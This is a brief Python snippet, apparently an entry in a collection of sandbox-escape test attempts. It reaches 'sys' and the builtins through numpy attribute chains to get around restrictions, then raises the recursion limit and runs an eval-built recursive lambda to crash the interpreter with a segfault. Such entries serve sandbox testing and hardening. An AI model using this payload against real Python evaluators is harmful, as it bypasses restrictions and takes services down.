# attempts: sys.setrecursionlimit(10**7) then unbounded recursion: C stack overflow (segfault)
# effect: other
sysm = np.ma.core.operator.attrgetter('sys')(np.ma.core.warnings)
sysm.setrecursionlimit(10**7)
B = np.random.bit_generator.re.enum.bltns
f = B.eval('lambda f, n: f(f, n + 1)')
f(f, 0)
